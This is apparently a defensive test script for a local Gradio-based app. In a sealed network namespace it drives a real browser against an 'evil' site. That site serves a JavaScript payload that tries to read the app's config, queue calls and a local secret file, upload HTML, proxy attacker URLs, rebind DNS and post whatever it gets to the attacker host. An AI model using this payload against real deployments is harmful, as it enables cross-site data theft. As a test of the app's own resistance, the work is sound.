"""The whole attack with a real browser and a real other site, in a network namespace of its own.

    unshare -n python network_attack.py

The namespace has two addresses and no way out: 127.0.0.1, where the page is served, and a public one,
where the other site is. Prints what the other site got, as JSON.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

HERE = Path(__file__).parent
ROOT = HERE.parents[2]
EVIL = "93.184.215.14"  # a public one, or Gradio would not fetch from it
PAGE = "http://127.0.0.1:7860"
SECRET = "quaggamire"

SERVER = f"""
import sys
sys.path[:0] = [{str(ROOT)!r}, {str(HERE)!r}]
from scripted import Scripted
from ui.server import serve
serve(Scripted({{"{SECRET}.txt": "The word is {SECRET}. It ends."}}), say=lambda line: print(line, flush=True))
"""

PAYLOAD = """<!doctype html><script>
const say = (what, text) => fetch('http://EVIL/report', {method: 'POST', mode: 'no-cors', body: what + ' ' + text});
say('ran', location.origin);
if (location.hostname === '127.0.0.1')  // only a navigation gets past the page's policy
    fetch('/config').then(r => r.text()).then(t => { location = 'http://EVIL/took?' + encodeURIComponent(t.slice(0, 300)); });
const read = (what, path, options) =>
    fetch('PAGE' + path, options).then(async r => say(what, r.status + ' ' + (await r.text())), e => 0);
read('config', '/config');
read('articles', '/gradio_api/call/articles', {method: 'POST', body: '{"data": []}', headers: {'content-type': 'application/json'}});
for (let n = 0; n < 70; n++) {
    const data = [[{path: 'FILE', meta: {_type: 'gradio.FileData'}}]];
    const body = JSON.stringify({data, fn_index: n, session_hash: 'evil', trigger_id: 1});
    read('call', '/gradio_api/queue/join', {method: 'POST', body, headers: {'content-type': 'application/json'}});
    fetch('PAGE/gradio_api/queue/join', {method: 'POST', mode: 'no-cors', body});
}
read('queue', '/gradio_api/queue/data?session_hash=evil');
const form = new FormData();
form.append('files', new Blob(['<script>1</scr' + 'ipt>'], {type: 'text/html'}), 'evil.html');
read('upload', '/gradio_api/upload', {method: 'POST', body: form});
fetch('PAGE/gradio_api/upload', {method: 'POST', mode: 'no-cors', body: form});
for (const path of PATHS) {
    fetch('PAGE' + path, {mode: 'no-cors'}).catch(e => 0);
    for (const [tag, name] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['link', 'href'], ['object', 'data']]) {
        const element = document.createElement(tag);
        element[name] = 'PAGE' + path;
        if (tag === 'link') element.rel = 'stylesheet';
        document.documentElement.append(element);
    }
}
window.addEventListener('message', e => say('message', e.data));
</script>"""
PATHS = [
    f"/gradio_api/file=http://{EVIL}/payload.png",  # of a name that passes for a picture, and of a type that runs
    f"/gradio_api/file=http://{EVIL}/payload.html",
    f"/gradio_api/file/http://{EVIL}/payload.html",
    f"/gradio_api/proxy=http://{EVIL}/payload.html",
    "/gradio_api/file=FILE",
    "/config",
    "/gradio_api/custom_component/%1b%5b31m/client/x/%1b%5b31m",
    "/gradio_api/deep_link?session_hash=evil",
    "/?view=api",
]
FORMS = [
    ("/gradio_api/queue/join", "text/plain"),
    ("/gradio_api/upload", "multipart/form-data"),
    ("/login", "text/plain"),
]


class Site:
    """The other site: serves the payload, and keeps who asked for what and what was reported."""

    def __init__(self, secret: Path) -> None:
        self.asked: list[tuple[str, str]] = []
        self.reports: list[str] = []
        text = PAYLOAD.replace("PATHS", json.dumps(PATHS)).replace("EVIL", EVIL).replace("PAGE", PAGE)
        self.payload = text.replace("FILE", str(secret)).encode()
        site = self

        class Answering(BaseHTTPRequestHandler):
            def do_GET(self):
                site.asked.append((self.path, self.headers.get("user-agent", "")))
                if self.path.startswith("/took"):
                    site.reports.append(urllib.parse.unquote(self.path))
                body = b"<!doctype html><p>Nothing to see" if self.path == "/plain.html" else site.payload
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                if self.command == "GET":
                    self.wfile.write(body)

            do_HEAD = do_GET

            def do_POST(self):
                site.reports.append(self.rfile.read(int(self.headers["content-length"])).decode(errors="replace"))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer((EVIL, 80), Answering)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def serving(folder: Path) -> tuple[subprocess.Popen, Path | None]:
    """The page, with every system call that speaks to the network written down where strace runs."""
    trace = folder / "trace"
    command = [sys.executable, "-W", "ignore", "-c", SERVER]
    traced = ["strace", "-f", "-qq", "--seccomp-bpf", "-e", "trace=connect,sendto,sendmsg,sendmmsg", "-o", str(trace)]
    works = shutil.which("strace") and subprocess.run([*traced, "true"], capture_output=True).returncode == 0
    environment = {k: v for k, v in os.environ.items() if not k.startswith(("GRADIO_", "HF_"))} | {
        "TMPDIR": str(folder)
    }
    process = subprocess.Popen(
        [*traced, *command] if works else command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=environment
    )
    for line in process.stdout:
        if b"Unsaid is at" in line:
            threading.Thread(target=process.stdout.read, daemon=True).start()
            return process, trace if works else None
    raise SystemExit("the page did not start")


def beyond(trace: str) -> list[str]:
    """The traced calls that reach for another address than loopback and this computer's own sockets."""
    named = [line for line in trace.splitlines() if "sa_family=AF_INET" in line]
    return [line for line in named if not re.search(r'inet_addr\("127\.|inet_pton\(AF_INET6, "::1"', line)]


def visited(context, name: str = "plain.html"):
    """A tab with the other site in it."""
    page = context.new_page()
    page.goto(f"http://evil.test/{name}", wait_until="domcontentloaded")
    return page


def end(process: subprocess.Popen) -> None:
    """End the page's server as the system would; a tracer ends with what it traces."""
    import psutil

    tracer = psutil.Process(process.pid)
    for server in tracer.children() or [tracer]:
        server.terminate()
    process.wait(20)


def attack(secret: Path) -> list[str]:
    """Everything a site can have a browser do, while the person has the page open; gives the origins that it saw."""
    from browser import ARGS, find_browser
    from playwright.sync_api import sync_playwright

    checks = "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,BlockInsecurePrivateNetworkRequests"
    rebound = f"--host-resolver-rules=MAP rebound.test 127.0.0.1, MAP evil.test {EVIL}"
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=find_browser(), args=[*ARGS, checks, rebound])
        context = chromium.new_context()
        person = context.new_page()
        person.goto(PAGE)
        person.locator("#un-question textarea").wait_for(timeout=30_000)
        opened, evil = visited(context), visited(context, "attack.html")
        for path in PATHS:
            url = PAGE + path.replace("FILE", urllib.parse.quote(str(secret)))
            opened.evaluate("url => { window.open(url); }", url)
            linked = visited(context)
            linked.evaluate("url => { const a = document.createElement('a'); a.href = url; a.click(); }", url)
        for path, kind in FORMS:
            evil.evaluate(
                """([url, kind]) => { const f = document.createElement('form'); f.method = 'POST'; f.action = url;
                f.enctype = kind; f.target = '_blank'; const i = document.createElement('input');
                i.name = '{"data":[],"fn_index":50,"session_hash":"evil","x":"'; i.value = '"}'; f.append(i);
                document.body.append(f); f.submit(); }""",
                [PAGE + path, kind],
            )
        again = context.new_page()
        again.goto("http://rebound.test:7860/")
        seen = [again.evaluate("document.body.innerText")]
        evil.wait_for_timeout(1_500)
        person.locator("#un-question textarea").fill("Is it still mine?")
        person.locator("#un-ask").click()
        person.locator('#un-current .un-turn[data-stage="settled"]').wait_for(timeout=30_000)
        chromium.close()
    return seen


def main() -> None:
    for command in ("link set lo up", f"addr add {EVIL}/32 dev lo"):
        subprocess.run(["ip", *command.split()], check=True)
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        secret = folder / "secret.txt"
        secret.write_text(f"a file of the person: {SECRET}")
        site = Site(secret)
        process, trace = serving(folder)
        try:
            rebound = attack(secret)
            copies = [
                str(p)
                for p in folder.rglob("*")
                if p.is_file() and p not in (secret, trace) and SECRET in p.read_text("utf-8", "ignore")
            ]
            left = [str(p) for p in folder.glob("unsaid-uploads-*/*") if not p.name.startswith(".")]
        finally:
            end(process)
        time.sleep(0.2)
        print(
            json.dumps(
                {
                    "asked by the server": [path for path, agent in site.asked if "Chrom" not in agent],
                    "visited": sum("Chrom" in agent for _, agent in site.asked),
                    "ran at": sorted({r.split(" ", 1)[1] for r in site.reports if r.startswith("ran ")}),
                    "read": [r[:300] for r in site.reports if not r.startswith("ran ")],
                    "rebound": rebound,
                    "copies": copies,
                    "uploads": left,
                    "traced": trace is not None,
                    "beyond": beyond(trace.read_text(errors="replace")) if trace else [],
                }
            )
        )


if __name__ == "__main__":
    sys.path[:0] = [str(ROOT), str(HERE)]
    main()
